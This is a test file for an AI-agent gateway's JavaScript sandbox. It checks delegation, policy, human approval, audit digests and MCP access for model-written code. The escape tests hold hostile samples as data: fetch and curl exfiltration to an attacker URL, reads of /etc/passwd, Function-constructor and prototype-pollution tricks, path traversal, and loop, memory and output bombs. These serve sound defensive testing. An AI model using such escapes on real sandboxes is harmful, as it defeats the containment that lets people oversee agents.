// The code sandbox end to end: model-written JavaScript runs through the same mediation as every tool (delegated
// identity, PDP on the arguments, approvals, ledger entry with the code's and the result's digests), on the REST
// route and over MCP with the official client, while each escape ends in a clear refusal within its cap and the
// gateway stays healthy.
import { test, describe, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { startToolsWorld, type ToolsWorld } from './fixtures.js';
import { canonicalJson } from '../../src/core/canonical-json.js';
import { sha256Digest } from '../../src/core/digest.js';

const TIME_MS = 1500;
const MEMORY = 32 * 1024 * 1024;
const OUTPUT = 16 * 1024;

let w: ToolsWorld;
let token: string;
before(async () => {
  w = await startToolsWorld();
  const limits = { time_ms: TIME_MS, memory_bytes: MEMORY, output_bytes: OUTPUT };
  await w.t.admin('POST', '/admin/v1/tools', { name: 'code_run', description: 'Run JavaScript in a sandbox', risk: 'write', grantees: ['consumers'], backend: { type: 'sandbox', language: 'javascript', limits } });
  await w.t.admin('POST', '/admin/v1/tools', { name: 'code_run_reviewed', description: 'Run JavaScript after a human looked at it', risk: 'write', needs_approval: true, grantees: ['consumers'], backend: { type: 'sandbox', limits } });
  token = await w.delegate(w.keys.alice, w.keys.agent);
});
after(async () => {
  await w.stop();
});

const entry = (requestId: string) => {
  const e = w.t.audits().filter((a) => a.requestId === requestId);
  assert.equal(e.length, 1, `one ledger entry for ${requestId}`);
  return e[0]! as Record<string, any>;
};

async function run(code: string, extra: Record<string, unknown> = {}) {
  const started = Date.now();
  const r = await w.invoke(token, 'code_run', { code, ...extra });
  return { ...r, ms: Date.now() - started };
}

/** Each code ends in a 422 with `code`, and well within the time cap plus the engine's start. */
async function assertRefused(code: string, sources: string[]) {
  for (const src of sources) {
    const r = await run(src);
    assert.equal(r.status, 422, `${src}: ${JSON.stringify(r.json)}`);
    assert.equal(r.json.error.code, code, src);
    assert.ok(r.ms < TIME_MS + 4000, `${src}: ${r.ms} ms`);
  }
}

/** After every escape the gateway answers, and a plain run in a fresh instance still works. */
async function assertHealthy() {
  assert.equal((await w.t.call('admin', 'GET', '/healthz')).status, 200);
  const r = await run('6 * 7');
  assert.equal(r.status, 200, JSON.stringify(r.json));
  assert.equal(r.json.result.result, 42);
}

describe('code sandbox: a mediated tool', () => {
  test('an agent acting for alice runs code on its inputs and files; the entry holds the code, argument and result digests', async () => {
    const args = { code: 'console.log("rows", inputs.rows.length); ({ sum: inputs.rows.reduce((a, b) => a + b, 0), head: files["notes.txt"].split("\\n")[0] })', inputs: { rows: [1, 2, 3] }, files: { 'notes.txt': 'first line\nsecond' } };
    const r = await w.invoke(token, 'code_run', args);
    assert.equal(r.status, 200, JSON.stringify(r.json));
    assert.deepEqual(r.json.result, { result: { sum: 6, head: 'first line' }, stdout: 'rows 3\n' });
    assert.equal(r.json.is_error, false);
    const e = entry(r.requestId);
    assert.equal(e.kind, 'tool');
    assert.equal(e.decision, 'allow');
    assert.deepEqual(e.principal.actor, ['agent-1']);
    assert.equal(e.requestDigest, sha256Digest(canonicalJson(args)));
    assert.equal(e.details.codeDigest, sha256Digest(args.code));
    assert.equal(e.responseDigest, sha256Digest(canonicalJson(r.json.result)));
    assert.equal(typeof e.details.sandboxMs, 'number');
  });

  test('async code is settled; a promise that never settles is an error result, not a hang', async () => {
    const ok = await run('(async () => { const x = await Promise.resolve(20); return x + 1 })()');
    assert.equal(ok.json.result.result, 21);
    const never = await run('new Promise(() => {})');
    assert.equal(never.status, 200);
    assert.equal(never.json.is_error, true);
    assert.match(never.json.result.error.message, /never settles/);
  });

  test('the agent on its own authority is refused (403 delegation_required) and nothing runs', async () => {
    const r = await w.invoke(w.keys.agent, 'code_run', { code: '1' });
    assert.equal(r.status, 403);
    assert.equal(r.json.error.code, 'delegation_required');
    assert.equal(entry(r.requestId).decision, 'deny');
  });

  test('the PDP decides on the arguments: carol must name the language', async () => {
    const carol = await w.delegate(w.keys.carol, w.keys.agent);
    const denied = await w.invoke(carol, 'code_run', { code: '1 + 1' });
    assert.equal(denied.status, 403, JSON.stringify(denied.json));
    assert.equal(denied.json.error.code, 'tool_call_denied');
    assert.match(denied.json.error.message, /code-carol-language-explicit/);
    const e = entry(denied.requestId);
    assert.equal(e.decision, 'deny');
    assert.equal(e.details.codeDigest, sha256Digest('1 + 1'));
    const allowed = await w.invoke(carol, 'code_run', { code: '1 + 1', language: 'javascript' });
    assert.equal(allowed.status, 200, JSON.stringify(allowed.json));
    assert.equal(allowed.json.result.result, 2);
  });

  test('arguments outside the schema are refused before anything runs', async () => {
    for (const args of [{}, { code: '' }, { code: '1', language: 'python' }, { code: '1', files: { '../etc/passwd': 'x' } }, { code: '1', shell: true }]) {
      const r = await w.invoke(token, 'code_run', args);
      assert.equal(r.status, 400, JSON.stringify(args));
      assert.equal(r.json.error.code, 'tool_arguments_invalid');
    }
  });

  test('a tool that needs approval holds the code; a second person approves; exactly that code runs once', async () => {
    const code = 'inputs.n * 2';
    const held = await w.invoke(token, 'code_run_reviewed', { code, inputs: { n: 4 } });
    assert.equal(held.status, 202, JSON.stringify(held.json));
    const id = held.json.approval.id as string;
    assert.equal(held.json.approval.arguments.code, code);
    const changed = await w.invoke(token, 'code_run_reviewed', { code: 'inputs.n * 3', inputs: { n: 4 } }, id);
    assert.equal(changed.status, 403);
    const approved = await w.t.call('admin', 'POST', `/admin/v1/approvals/${id}/approve`, { key: w.keys.bob, body: { mfa_token: await w.mfaToken('bob') } });
    assert.equal(approved.status, 200, approved.text);
    const swapped = await w.invoke(token, 'code_run_reviewed', { code: 'inputs.n * 3', inputs: { n: 4 } }, id);
    assert.equal(swapped.json.error.code, 'approval_arguments_mismatch');
    const ran = await w.invoke(token, 'code_run_reviewed', { code, inputs: { n: 4 } }, id);
    assert.equal(ran.status, 200, JSON.stringify(ran.json));
    assert.equal(ran.json.result.result, 8);
    assert.equal(ran.json.warden.approval_id, id);
    const again = await w.invoke(token, 'code_run_reviewed', { code, inputs: { n: 4 } }, id);
    assert.equal(again.json.error.code, 'approval_already_used');
  });
});

describe('code sandbox: escapes end in clear refusals within their caps', () => {
  test('an infinite loop is stopped from outside at the time cap (422 sandbox_time_limit), recorded with the code digest', async () => {
    const r = await run('while (true) {}');
    assert.equal(r.status, 422, JSON.stringify(r.json));
    assert.equal(r.json.error.code, 'sandbox_time_limit');
    assert.ok(r.ms >= TIME_MS, `stopped after ${r.ms} ms`);
    assert.ok(r.ms < TIME_MS + 4000, `stopped after ${r.ms} ms`);
    const e = entry(r.requestId);
    assert.equal(e.errorCode, 'sandbox_time_limit');
    assert.equal(e.stage, 'sandbox');
    assert.equal(e.details.codeDigest, sha256Digest('while (true) {}'));
    await assertHealthy();
  });

  test('a loop that catches every interruption, and a catastrophic regex, are stopped the same way', async () => {
    await assertRefused('sandbox_time_limit', ['for (;;) { try { while (true) {} } catch (e) {} }', '/(a+)+$/.test("a".repeat(64) + "b")']);
    await assertHealthy();
  });

  test('memory bombs end at the memory cap (422 sandbox_memory_limit)', async () => {
    await assertRefused('sandbox_memory_limit', ['const a = []; while (true) a.push("x".repeat(1 << 16) + a.length)', 'new ArrayBuffer(1 << 30)', 'const a = []; while (true) a.push(new Array(1 << 14).fill(1.5))']);
    // A guest that catches the failure stays inside the cap and answers.
    const caught = await run('let a = []; try { for (;;) a.push("y".repeat(1 << 16) + a.length) } catch (e) { a = null; "caught: " + e.message }');
    assert.equal(caught.json.result.result, 'caught: out of memory');
    await assertHealthy();
  });

  test('output floods end at the output cap (422 sandbox_output_limit): console, caught writes, and a huge result', async () => {
    await assertRefused('sandbox_output_limit', ['while (true) console.log("x".repeat(1000))', 'for (;;) { try { console.log("y".repeat(4096)) } catch (e) {} }', '"z".repeat(1 << 20)', 'console.log("w".repeat(8 << 20))']);
    await assertHealthy();
  });

  test('no network: fetch, XMLHttpRequest, WebSocket and module loading do not exist; nothing reaches a listening server', async () => {
    const before = w.attackerHits.length;
    const attempts: [string, RegExp][] = [
      [`fetch(${JSON.stringify(w.attackerUrl + '/collect')})`, /'fetch' is not defined/],
      [`new XMLHttpRequest()`, /'XMLHttpRequest' is not defined/],
      [`new WebSocket("ws://127.0.0.1:1")`, /'WebSocket' is not defined/],
      [`import("os").then((os) => os.exec(["curl", ${JSON.stringify(w.attackerUrl)}]))`, /could not load module 'os'/],
    ];
    for (const [code, message] of attempts) {
      const r = await run(code);
      assert.equal(r.status, 200, JSON.stringify(r.json));
      assert.equal(r.json.is_error, true, code);
      assert.match(r.json.result.error.message, message);
    }
    assert.equal(w.attackerHits.length, before);
    assert.equal((await run('[typeof fetch, typeof std, typeof os, typeof WebAssembly, typeof setTimeout].join()')).json.result.result, 'undefined,undefined,undefined,undefined,undefined');
  });

  test('no file system, process, require or import: each is absent; the in-memory files are the only files', async () => {
    const attempts: [string, string, RegExp][] = [
      ['process', 'process.exit(1)', /'process' is not defined/],
      ['process via globalThis', 'globalThis.process.env', /cannot read property 'env' of undefined/i],
      ['require', 'require("fs").readFileSync("/etc/passwd", "utf8")', /'require' is not defined/],
      ['static import', 'import fs from "fs"; fs.readFileSync("/etc/passwd")', /could not load module 'fs'|expecting|unexpected/i],
      ['dynamic import', 'import("fs")', /could not load module 'fs'/],
      ['std module', 'import("std").then((std) => std.loadFile("/etc/passwd"))', /could not load module 'std'/],
      ['Function constructor', 'Function("return this")().process.pid', /cannot read property 'pid' of undefined/i],
    ];
    for (const [what, code, message] of attempts) {
      const r = await run(code);
      assert.equal(r.json.is_error, true, `${what}: ${JSON.stringify(r.json)}`);
      assert.match(r.json.result.error.message, message, what);
    }
    const only = await run('Object.keys(files)', { files: { 'a.csv': '1,2' } });
    assert.deepEqual(only.json.result.result, ['a.csv']);
    // The call's inputs are frozen: code cannot change what the next reader of `inputs` sees.
    const frozen = await run('"use strict"; inputs.x = 5', { inputs: { x: 1 } });
    assert.match(frozen.json.result.error.message, /read-only/);
    await assertHealthy();
  });

  test("prototype pollution stays in the guest's realm: not the host, not the next run", async () => {
    const r = await run('Object.prototype.polluted = "yes"; Array.prototype.push = null; JSON.parse(\'{"__proto__": {"polluted": "yes"}, "constructor": {"prototype": {"polluted": "yes"}}}\')');
    assert.equal(r.status, 200, JSON.stringify(r.json));
    // The result comes back as data: its "__proto__" is an own key, not the host's prototype.
    assert.deepEqual(Object.keys(r.json.result.result), ['__proto__', 'constructor']);
    assert.equal(({} as Record<string, unknown>).polluted, undefined);
    assert.equal(Object.prototype.hasOwnProperty.call(Object.prototype, 'polluted'), false);
    // Every run gets a fresh instance: the next one sees a clean realm.
    const next = await run('[typeof Object.prototype.polluted, typeof Array.prototype.push]');
    assert.deepEqual(next.json.result.result, ['undefined', 'function']);
    await assertHealthy();
  });

  test('deep recursion is a stack overflow error result, not a crash', async () => {
    const r = await run('function f() { return f() + 1 } f()');
    assert.equal(r.json.is_error, true);
    assert.match(r.json.result.error.message, /stack overflow/);
    await assertHealthy();
  });
});

describe('code sandbox over MCP', () => {
  test('the official client lists code_run and runs code; a refusal comes back as an isError result with its code', async () => {
    const transport = new StreamableHTTPClientTransport(new URL(`${w.t.w.inferenceUrl}/mcp`), { fetch: w.mcpFetch as never, requestInit: { headers: { authorization: `Bearer ${token}` } } });
    const client = new Client({ name: 'test-agent', version: '1.0.0' });
    await client.connect(transport);
    try {
      const list = await client.listTools();
      const tool = list.tools.find((t) => t.name === 'code_run');
      assert.ok(tool);
      assert.deepEqual(tool.inputSchema.required, ['code']);
      const ok = await client.callTool({ name: 'code_run', arguments: { code: 'inputs.a + inputs.b', inputs: { a: 2, b: 3 } } });
      assert.equal(ok.isError, undefined);
      assert.deepEqual(JSON.parse((ok.content as { text: string }[])[0]!.text), { result: 5, stdout: '' });
      const loop = await client.callTool({ name: 'code_run', arguments: { code: 'for (;;) {}' } });
      assert.equal(loop.isError, true);
      assert.equal((loop._meta as Record<string, unknown>)['warden/error'], 'sandbox_time_limit');
    } finally {
      await client.close();
    }
  });
});

describe('sandbox tool definitions', () => {
  test('no egress, no custom schema, limits within ceilings, JavaScript only: each refused naming the field', async () => {
    const base = { name: 'code_bad', risk: 'write', backend: { type: 'sandbox' } };
    const bad: [Record<string, unknown>, string][] = [
      [{ ...base, egress: ['https://api.example.com'] }, 'egress'],
      [{ ...base, input_schema: { type: 'object' } }, 'input_schema'],
      [{ ...base, backend: { type: 'sandbox', language: 'python' } }, 'backend/language'],
      [{ ...base, backend: { type: 'sandbox', limits: { time_ms: 10 * 60_000 } } }, 'backend/limits/time_ms'],
      [{ ...base, backend: { type: 'sandbox', limits: { memory_bytes: 1024 } } }, 'backend/limits/memory_bytes'],
      [{ ...base, backend: { type: 'sandbox', limits: { cpu: 1 } } }, 'backend/limits/cpu'],
    ];
    for (const [body, field] of bad) {
      const r = await w.t.call('admin', 'POST', '/admin/v1/tools', { key: w.t.adminKey, body });
      assert.equal(r.status, 400, JSON.stringify(body));
      assert.ok(r.json.error.message.startsWith(field + ':'), r.text);
    }
    const shown = await w.t.admin('GET', '/admin/v1/tools/code_run');
    assert.deepEqual(shown.backend, { type: 'sandbox', language: 'javascript', limits: { timeMs: TIME_MS, memoryBytes: MEMORY, outputBytes: OUTPUT } });
    assert.deepEqual(shown.input_schema.required, ['code']);
  });
});
